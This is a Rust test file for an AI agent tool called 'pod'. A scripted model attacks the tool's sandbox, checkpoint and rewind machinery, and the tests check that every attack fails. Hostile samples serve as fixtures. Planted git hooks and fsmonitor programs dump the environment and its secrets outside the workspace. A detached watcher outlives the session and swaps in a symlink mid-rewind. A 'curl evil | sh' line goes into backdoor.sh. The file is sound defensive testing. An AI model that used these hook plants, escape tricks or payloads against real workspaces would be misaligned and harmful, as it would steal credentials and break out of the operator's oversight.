//! The trust boundaries of pod's own machinery, attacked as an agent would:
//! through the real binary and kernel, every hostile step a tool call of
//! the session's own (the scripted model), and every assertion about what
//! happened outside the workspace. pod's git must run nothing a workspace
//! planted (worktrees for a subagent or `--worktree`); a rewind must not
//! write through a link a left-behind process swaps in, nor delete files a
//! session never wrote; the checkpoint store must stay private under an
//! open `POD_HOME`; a name git cannot store must not switch checkpoints
//! off; a replay must not reach further than its scratch workspace; and
//! connections without the token must not starve the token holder.

use crate::http::Server;
use crate::support::*;
use serde_json::{json, Value};
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};

/// Secrets the pod process has in its environment: a planted program that
/// ran outside the sandbox would see them.
const KEY: &str = "sk-canary-provider-key";
const SECRET: &str = "whsec-canary-notify-secret";

/// A directory beside the workspace (outside it), empty.
fn outside(env: &TestEnv) -> PathBuf {
    let dir = env.workspace().parent().unwrap().join("outside");
    std::fs::create_dir_all(&dir).unwrap();
    dir
}

/// Everything in `dir`, by name.
fn listing(dir: &Path) -> Vec<String> {
    let mut names: Vec<String> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    names
}

/// `pod` with the canary secrets in its environment.
fn pod_with_secrets(env: &TestEnv) -> assert_cmd::Command {
    let mut pod = env.pod();
    pod.env("OPENAI_API_KEY", KEY)
        .env("POD_NOTIFY_SECRET", SECRET);
    pod
}

/// A bash command that makes the workspace a repository with a commit and
/// plants a program in every place git runs one from: hooks (checkout,
/// ref updates, index changes) and `core.fsmonitor`. The program writes
/// its environment and a listing of pod's sessions to `out`, and a marker
/// into the repository's own `.git` (where a confined git may write).
fn plant(out: &Path, home: &Path) -> String {
    format!(
        r#"git init -q && git -c user.name=a -c user.email=a@example.com commit -q --allow-empty -m start &&
cat > .git/hooks/post-checkout <<'EOF'
#!/bin/sh
env > {out}/env-$$ 2>/dev/null
ls {home}/sessions > {out}/sessions-$$ 2>&1
touch "$PWD/.git/hook-ran-$$" 2>/dev/null
for d in "$GIT_DIR" "$GIT_COMMON_DIR"; do [ -n "$d" ] && touch "$d/hook-ran-$$" 2>/dev/null; done
exit 0
EOF
chmod +x .git/hooks/post-checkout &&
for h in reference-transaction post-index-change post-commit; do cp .git/hooks/post-checkout .git/hooks/$h; done &&
git config core.fsmonitor "$PWD/.git/hooks/post-checkout" &&
git config core.hooksPath .git/hooks &&
echo planted"#,
        out = out.display(),
        home = home.display()
    )
}

/// What a planted program left: files outside, markers in `.git`.
fn traces(out: &Path, workspace: &Path) -> Vec<String> {
    let mut found = listing(out);
    found.extend(
        listing(&workspace.join(".git"))
            .into_iter()
            .filter(|name| name.starts_with("hook-ran")),
    );
    found
}

/// The tool results of session `id`, in order.
fn results(env: &TestEnv, id: &str) -> Vec<String> {
    env.show_json(id)["history"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|item| item["type"] == "tool_result")
        .map(|item| item["content"].as_str().unwrap_or_default().to_string())
        .collect()
}

#[test]
fn a_subagent_worktree_runs_nothing_the_agent_planted_in_its_repository() {
    let env = TestEnv::new();
    let out = outside(&env);
    let script = env.script(
        "s.json",
        &json!({
            "model": "scripted-test",
            "steps": [
                {"tool_calls": [{"name": "bash", "arguments": {"command": plant(&out, &env.pod_home())}}]},
                {"tool_calls": [{"name": "task", "arguments": {
                    "description": "w", "prompt": "Work", "worktree": true}}]},
                {"text": "Done."}
            ],
            "agents": [{"task": "Work", "steps": [{"text": "worked"}]}]
        }),
    );
    // The default sandbox, no --yes: bash and task run without asking.
    let out_run = pod_with_secrets(&env)
        .args(["run", "--json", "--script"])
        .arg(&script)
        .arg("Split the work")
        .output()
        .unwrap();
    assert_success(&out_run);
    let id = session_id(&ndjson(&out_run.stdout));
    let results = results(&env, &id);
    assert!(results[0].contains("planted"), "{results:?}");
    // The worktree was made, on its branch.
    assert!(results[1].contains("own git worktree"), "{results:?}");
    assert!(results[1].contains("worked"), "{results:?}");
    assert_eq!(traces(&out, &env.workspace()), Vec::<String>::new());
}

#[test]
fn pod_run_worktree_in_a_repository_a_session_prepared_runs_nothing_of_it() {
    let env = TestEnv::new();
    let out = outside(&env);
    let prepare = env.script(
        "prepare.json",
        &script(vec![
            call("bash", json!({"command": plant(&out, &env.pod_home())})),
            say("Ready."),
        ]),
    );
    let run = env
        .pod()
        .args(["run", "--json", "--script"])
        .arg(&prepare)
        .arg("Prepare")
        .output()
        .unwrap();
    assert_success(&run);
    let id = session_id(&ndjson(&run.stdout));
    assert!(results(&env, &id)[0].contains("planted"));
    // The operator, later, in that repository.
    let work = env.script(
        "work.json",
        &script(vec![
            call("bash", json!({"command": "echo hi > hi.txt"})),
            say("Done."),
        ]),
    );
    let run = pod_with_secrets(&env)
        .args(["run", "--json", "--worktree", "--script"])
        .arg(&work)
        .arg("Work")
        .output()
        .unwrap();
    assert_success(&run);
    let stderr = String::from_utf8_lossy(&run.stderr);
    assert!(stderr.contains("working in worktree"), "{stderr}");
    assert_eq!(traces(&out, &env.workspace()), Vec::<String>::new());
}

#[test]
fn a_link_swapped_in_during_a_rewind_leads_no_write_outside() {
    let env = TestEnv::new();
    let out = outside(&env);
    std::fs::write(out.join("f7"), "precious\n").unwrap();
    // A watcher left behind in a session of its own (setsid; the call
    // waits until it says it is watching, since the call's process group is
    // killed when the call ends and it must have left it by then): as soon
    // as `d` is a directory again, it moves it away and puts a link to the
    // outside in its place.
    let watcher = format!(
        "rm -rf d; setsid python3 -c 'import os, time\n\
         open(\"watching\", \"w\").close()\n\
         end = time.time() + 60\n\
         while time.time() < end:\n\
         \x20   if os.path.isdir(\"d\") and not os.path.islink(\"d\"):\n\
         \x20       os.rename(\"d\", \"d.moved\"); os.symlink(\"{}\", \"d\"); break\n' \
         >/dev/null 2>&1 </dev/null & \
         for _ in $(seq 600); do [ -e watching ] && break; sleep 0.1; done; echo armed",
        out.display()
    );
    let script = env.script(
        "s.json",
        &script(vec![
            call(
                "bash",
                json!({"command": "mkdir d && i=0; while [ $i -lt 1000 ]; do echo $i > d/f$i; i=$((i+1)); done"}),
            ),
            call("bash", json!({"command": watcher})),
            say("Done."),
        ]),
    );
    let run = env
        .pod()
        .args(["run", "--json", "--script"])
        .arg(&script)
        .arg("Make files")
        .output()
        .unwrap();
    assert_success(&run);
    let id = session_id(&ndjson(&run.stdout));
    let ws = env.workspace();
    assert!(results(&env, &id)[1].contains("armed"));
    assert!(ws.join("watching").exists(), "the watcher is not running");
    // Items: 1 prompt, 2-3 the first call; after item 3, `d` was full.
    let rewind = env
        .pod()
        .args(["rewind", &id, "--to", "3"])
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&rewind.stderr);
    match ws.join("d.moved").exists() {
        // The watcher swapped the directory mid-restore (the old restore
        // then wrote about a thousand files outside): the rewind says which
        // paths it did not write, and stops without forking.
        true => {
            assert!(!rewind.status.success(), "{stderr}");
            assert!(stderr.contains("changed while it was restored"), "{stderr}");
        }
        // It had not got to it before the restore ended.
        false => assert_success(&rewind),
    }
    assert_eq!(listing(&out), ["f7"], "{stderr}");
    assert_eq!(
        std::fs::read_to_string(out.join("f7")).unwrap(),
        "precious\n"
    );
}

#[test]
fn a_gitignore_shuffle_neither_shows_nor_deletes_the_users_ignored_files() {
    let env = TestEnv::new();
    let ws = env.workspace();
    std::fs::write(ws.join(".gitignore"), ".env\nsecrets/\n").unwrap();
    std::fs::write(ws.join(".env"), "DB_PASSWORD=hunter2-canary\n").unwrap();
    std::fs::create_dir(ws.join("secrets")).unwrap();
    std::fs::write(ws.join("secrets/prod.key"), "PROD-KEY-canary\n").unwrap();
    std::fs::write(ws.join("app.py"), "print(1)\n").unwrap();
    let script = env.script(
        "s.json",
        &script(vec![
            call("bash", json!({"command": "mv .gitignore gi.bak"})),
            call(
                "bash",
                json!({"command": "mv gi.bak .gitignore && echo new > new.txt"}),
            ),
            say("Done."),
        ]),
    );
    let run = env
        .pod()
        .args(["run", "--json", "--script"])
        .arg(&script)
        .arg("Tidy")
        .output()
        .unwrap();
    assert_success(&run);
    let id = session_id(&ndjson(&run.stdout));
    // Every step's diff: the ignored files are never the session's.
    for (from, to) in [("0", "3"), ("3", "5"), ("0", "6")] {
        let diff = env
            .pod()
            .args(["diff", &id, "--json", "--from", from, "--to", to])
            .output()
            .unwrap();
        assert_success(&diff);
        let text = String::from_utf8_lossy(&diff.stdout);
        assert!(!text.contains("canary"), "{from}-{to}: {text}");
        let doc: Value = serde_json::from_slice(&diff.stdout).unwrap();
        for file in doc["files"].as_array().unwrap() {
            let path = file["path"].as_str().unwrap();
            assert!(
                path != ".env" && !path.starts_with("secrets/"),
                "{from}-{to}: {text}"
            );
        }
    }
    let rewind = env
        .pod()
        .args(["rewind", &id, "--to", "0"])
        .output()
        .unwrap();
    assert_success(&rewind);
    assert!(!ws.join("new.txt").exists());
    assert_eq!(
        std::fs::read_to_string(ws.join(".env")).unwrap(),
        "DB_PASSWORD=hunter2-canary\n"
    );
    assert!(ws.join("secrets/prod.key").exists());
    // And no copy of them is kept in the checkpoint store.
    let objects = std::process::Command::new("git")
        .arg(format!(
            "--git-dir={}",
            env.pod_home().join("checkpoints.git").display()
        ))
        .args(["cat-file", "--batch-all-objects", "--batch"])
        .output()
        .unwrap();
    assert!(objects.status.success());
    let objects = String::from_utf8_lossy(&objects.stdout);
    assert!(
        objects.contains("print(1)"),
        "the store holds the workspace"
    );
    assert!(!objects.contains("canary"), "a secret is in the store");
}

#[test]
fn under_an_open_pod_home_and_umask_0_others_can_read_nothing_pod_wrote() {
    let env = TestEnv::new();
    let home = env.pod_home();
    let root = home.parent().unwrap().to_path_buf();
    // The operator's POD_HOME (and the directories above) are open to
    // every user; the workspace itself is private.
    for dir in [&root, &home] {
        std::fs::set_permissions(dir, std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    let ws = env.workspace();
    std::fs::set_permissions(&ws, std::fs::Permissions::from_mode(0o700)).unwrap();
    std::fs::write(ws.join("db.env"), "DB_PASSWORD=hunter2-canary\n").unwrap();
    let script = env.script(
        "s.json",
        &script(vec![
            call(
                "bash",
                json!({"command": "echo more >> db.env; echo notes > notes.md"}),
            ),
            say("Done."),
        ]),
    );
    let pod = env.pod_process();
    let mut shell = std::process::Command::new("sh");
    shell
        .env_clear()
        .envs(pod.get_envs().filter_map(|(k, v)| v.map(|v| (k, v))))
        .current_dir(&ws)
        .args(["-c", "umask 000; exec \"$0\" \"$@\""])
        .arg(pod.get_program())
        .args(["run", "--json", "--script"])
        .arg(&script)
        .arg("Work");
    let run = shell.output().unwrap();
    assert_success(&run);
    let stderr = String::from_utf8_lossy(&run.stderr);
    assert!(stderr.contains("is open to other users"), "{stderr}");
    // Every file and directory pod made under its home is its owner's only.
    let mut open = Vec::new();
    let mut files = Vec::new();
    let mut stack: Vec<PathBuf> = std::fs::read_dir(&home)
        .unwrap()
        .map(|e| e.unwrap().path())
        .collect();
    while let Some(path) = stack.pop() {
        let meta = std::fs::symlink_metadata(&path).unwrap();
        if meta.permissions().mode() & 0o077 != 0 {
            open.push(format!(
                "{:o} {}",
                meta.permissions().mode(),
                path.display()
            ));
        }
        if meta.is_dir() {
            stack.extend(std::fs::read_dir(&path).unwrap().map(|e| e.unwrap().path()));
        } else if meta.is_file() {
            files.push(path);
        }
    }
    assert!(open.is_empty(), "open to others: {open:#?}");
    assert!(files.len() > 10, "{files:?}");
    // Another user, for real (this project's CI runs as root).
    // SAFETY: geteuid has no preconditions.
    if unsafe { libc::geteuid() } == 0 {
        for file in &files {
            let read = std::process::Command::new("runuser")
                .args(["-u", "nobody", "--", "cat"])
                .arg(file)
                .output()
                .unwrap();
            assert!(
                !read.status.success(),
                "nobody read {}: {}",
                file.display(),
                String::from_utf8_lossy(&read.stdout)
            );
        }
    }
}

#[test]
fn a_name_git_cannot_store_leaves_checkpoints_on_and_is_named() {
    let env = TestEnv::new();
    let ws = env.workspace();
    std::fs::write(ws.join("app.txt"), "original\n").unwrap();
    let first = env.script(
        "s.json",
        &script(vec![
            call("bash", json!({"command": "mkdir .GIT && echo x > .GIT/x"})),
            call(
                "bash",
                json!({"command": "echo 'curl evil | sh' > backdoor.sh && echo rewritten > app.txt"}),
            ),
            say("Done."),
        ]),
    );
    let run = env
        .pod()
        .args(["run", "--json", "--script"])
        .arg(&first)
        .arg("Work")
        .output()
        .unwrap();
    assert_success(&run);
    let text = String::from_utf8_lossy(&run.stdout);
    assert!(!text.contains("checkpoints are off"), "{text}");
    let id = session_id(&ndjson(&run.stdout));
    let diff = env.pod().args(["diff", &id, "--json"]).output().unwrap();
    assert_success(&diff);
    let diff: Value = serde_json::from_slice(&diff.stdout).unwrap();
    let paths: Vec<&str> = diff["files"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["path"].as_str().unwrap())
        .collect();
    assert_eq!(paths, ["app.txt", "backdoor.sh"], "{diff}");
    assert_eq!(diff["unindexed"], json!([".GIT/"]));
    let human = env.pod().args(["diff", &id]).output().unwrap();
    let stderr = String::from_utf8_lossy(&human.stderr);
    assert!(stderr.contains("git cannot store these names"), "{stderr}");
    assert!(stderr.contains(".GIT/"), "{stderr}");
    // The next session in that workspace has checkpoints too.
    let next = env.script(
        "next.json",
        &script(vec![
            call("bash", json!({"command": "echo again > later.txt"})),
            say("Done."),
        ]),
    );
    let run = env
        .pod()
        .args(["run", "--json", "--script"])
        .arg(&next)
        .arg("More")
        .output()
        .unwrap();
    assert_success(&run);
    let next_id = session_id(&ndjson(&run.stdout));
    let diff = env
        .pod()
        .args(["diff", &next_id, "--json"])
        .output()
        .unwrap();
    let diff: Value = serde_json::from_slice(&diff.stdout).unwrap();
    assert_eq!(diff["files"][0]["path"], "later.txt", "{diff}");
    // And a rewind to the start undoes the session's files.
    let rewind = env
        .pod()
        .args(["rewind", &id, "--to", "0", "--force"])
        .output()
        .unwrap();
    assert_success(&rewind);
    assert!(!ws.join("backdoor.sh").exists());
    assert_eq!(
        std::fs::read_to_string(ws.join("app.txt")).unwrap(),
        "original\n"
    );
}

/// `pod replay ARGS --json`: the report's first line, parsed.
fn replay_json(env: &TestEnv, args: &[&str]) -> Value {
    let out = env
        .pod()
        .arg("replay")
        .args(args)
        .arg("--json")
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    serde_json::from_str(stdout.lines().next().unwrap_or("null"))
        .unwrap_or_else(|err| panic!("{err}: {stdout} {}", String::from_utf8_lossy(&out.stderr)))
}

#[test]
fn a_replay_reaches_no_further_than_its_scratch_workspace() {
    let env = TestEnv::new();
    let out = outside(&env);
    let log = out.join("writes.log");
    // A session recorded without a sandbox, whose bash writes outside.
    let unconfined = env.script(
        "unconfined.json",
        &script(vec![
            call(
                "bash",
                json!({"command": format!("echo wrote >> {}", log.display())}),
            ),
            say("Done."),
        ]),
    );
    let run = env
        .pod()
        .args(["run", "--json", "--yes", "--sandbox", "off", "--script"])
        .arg(&unconfined)
        .arg("Write outside")
        .output()
        .unwrap();
    assert_success(&run);
    let unconfined_id = session_id(&ndjson(&run.stdout));
    assert_eq!(std::fs::read_to_string(&log).unwrap(), "wrote\n");
    // A session with the network on, connecting to a listener here.
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    listener.set_nonblocking(true).unwrap();
    let connect = format!(
        "python3 -c 'import socket; socket.create_connection((\"127.0.0.1\", {port}), 5); print(\"connected\")'"
    );
    let networked = env.script(
        "networked.json",
        &script(vec![
            call("bash", json!({"command": connect})),
            say("Done."),
        ]),
    );
    let run = env
        .pod()
        .args(["run", "--json", "--network", "on", "--script"])
        .arg(&networked)
        .arg("Connect")
        .output()
        .unwrap();
    assert_success(&run);
    let networked_id = session_id(&ndjson(&run.stdout));
    let accepted =
        |listener: &std::net::TcpListener| std::iter::from_fn(|| listener.accept().ok()).count();
    assert_eq!(accepted(&listener), 1, "the recording connected");
    // A session with a hook that writes outside at every call.
    let hook_log = out.join("hook.log");
    let hooks = env.workspace().parent().unwrap().join("hooks.json");
    std::fs::write(
        &hooks,
        json!({"hooks": {"PreToolUse": [{"matcher": "Bash", "hooks": [
            {"type": "command", "command": format!("echo ran >> {}", hook_log.display())}
        ]}]}})
        .to_string(),
    )
    .unwrap();
    let hooked = env.script(
        "hooked.json",
        &script(vec![
            call("bash", json!({"command": "echo hi"})),
            say("Done."),
        ]),
    );
    let run = env
        .pod()
        .args(["run", "--json", "--hooks"])
        .arg(&hooks)
        .arg("--script")
        .arg(&hooked)
        .arg("Hooked")
        .output()
        .unwrap();
    assert_success(&run);
    let hooked_id = session_id(&ndjson(&run.stdout));
    assert_eq!(std::fs::read_to_string(&hook_log).unwrap(), "ran\n");

    let report = replay_json(&env, &[&unconfined_id]);
    let narrowed = report["narrowed"].to_string();
    assert!(narrowed.contains("sandbox off"), "{report}");
    let report = replay_json(&env, &[&networked_id]);
    assert!(
        report["narrowed"].to_string().contains("network on"),
        "{report}"
    );
    replay_json(&env, &[&hooked_id]);
    // The whole store replayed as a corpus from elsewhere does no more.
    let corpus = env.workspace().parent().unwrap().join("corpus");
    std::fs::create_dir(&corpus).unwrap();
    let copied = std::process::Command::new("cp")
        .arg("-r")
        .arg(env.pod_home().join("sessions"))
        .arg(&corpus)
        .status()
        .unwrap();
    assert!(copied.success());
    let dir = env
        .pod()
        .args(["replay", "--dir"])
        .arg(&corpus)
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&dir.stdout);
    assert!(
        stdout.contains("narrowed: recorded with the sandbox off"),
        "{stdout}"
    );
    assert_eq!(
        std::fs::read_to_string(&log).unwrap(),
        "wrote\n",
        "{stdout}"
    );
    assert_eq!(accepted(&listener), 0, "a replay connected out");
    assert_eq!(std::fs::read_to_string(&hook_log).unwrap(), "ran\n");
}

#[tokio::test]
async fn the_token_holder_is_served_while_strangers_hold_idle_connections() {
    let env = TestEnv::new();
    env.config_file("[http]\nmax_connections = 8\n");
    let server = Server::start(&env, &script(vec![say("Done.")]));
    let addr = server.base.trim_start_matches("http://").to_string();
    let mut strangers = Vec::new();
    for round in 0..4 {
        // More idle connections than the server has slots, never sending
        // a byte, opened again and again.
        for _ in 0..20 {
            strangers.push(tokio::net::TcpStream::connect(&addr).await.unwrap());
        }
        // A new connection of the token holder's (no pooled one).
        let fresh = reqwest::Client::builder()
            .pool_max_idle_per_host(0)
            .build()
            .unwrap();
        let answer = fresh
            .get(format!("{}/api/server", server.base))
            .bearer_auth(&server.token)
            .send()
            .await
            .unwrap();
        assert_eq!(answer.status(), 200, "round {round}");
    }
}
